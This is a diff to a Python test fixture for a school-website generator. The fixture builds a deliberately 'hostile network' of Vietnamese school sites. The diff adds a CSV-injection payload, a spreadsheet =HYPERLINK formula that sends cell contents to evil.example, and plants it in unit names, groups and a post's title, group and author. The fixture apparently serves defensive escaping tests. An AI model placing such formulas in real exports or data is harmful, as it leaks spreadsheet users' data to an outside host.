@@ -478,6 +478,9 @@ def tree_problems(public: Path) -> dict[str, list[str]]:
 # -- the hostile network -------------------------------------------------------------------------
 
 UNITS = ("so-gddt", "phong-gd-song-cau", "th-kim-dong")
+#: A spreadsheet formula (CSV injection) as a group name, title and author.
+FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Bấm vào đây")'
+
 SCHOOL = "th-kim-dong"
 
 
@@ -530,11 +533,11 @@ def make_hostile_network(root: Path, remote_feed: str | None = None) -> Path:
     unit = cfg["extra"]["unit"]
     cfg["site_name"] = f"Trường Kim Đồng {CONFIG_TEXT}"
     cfg["site_description"] = f"Mô tả {CONFIG_TEXT}"
-    unit["name"] = f"Trường Tiểu học Kim Đồng {CONFIG_TEXT}"
+    unit["name"] = f"{FORMULA} Trường Tiểu học Kim Đồng {CONFIG_TEXT}"
     unit["short_name"] = f"TH Kim Đồng {CONFIG_TEXT}"
     unit["address"] = f"Số 45 {CONFIG_TEXT}"
     unit["editor"] = {"name": f"Cô Hạnh {CONFIG_TEXT}", "title": f"Hiệu trưởng {CONFIG_TEXT}"}
-    unit["groups"] = [*unit["groups"], f"Tổ {CONFIG_TEXT}"]
+    unit["groups"] = [*unit["groups"], f"Tổ {CONFIG_TEXT}", FORMULA]
     unit["quick_links"] = [{"title": f"Cổng {CONFIG_TEXT}", "url": 'https://dvc.example.vn/a"b<c>'}]
     cfg_path.write_text(yaml.safe_dump(cfg, allow_unicode=True, sort_keys=False), encoding="utf-8")
     if remote_feed:
@@ -566,6 +569,13 @@ def make_hostile_network(root: Path, remote_feed: str | None = None) -> Path:
             }
         )
         + body(),
+        encoding="utf-8",
+    )
+    second = content / "tin-tuc/2026/2026-11-19-bai-bang-tinh"
+    second.mkdir(parents=True)
+    (second / "index.md").write_text(
+        front({"title": FORMULA, "date": "2026-11-19", "group": FORMULA, "author": FORMULA})
+        + "Nội dung.\n",
         encoding="utf-8",
     )
     # Pages other than posts: about page, a disclosure section page, a document, an album.
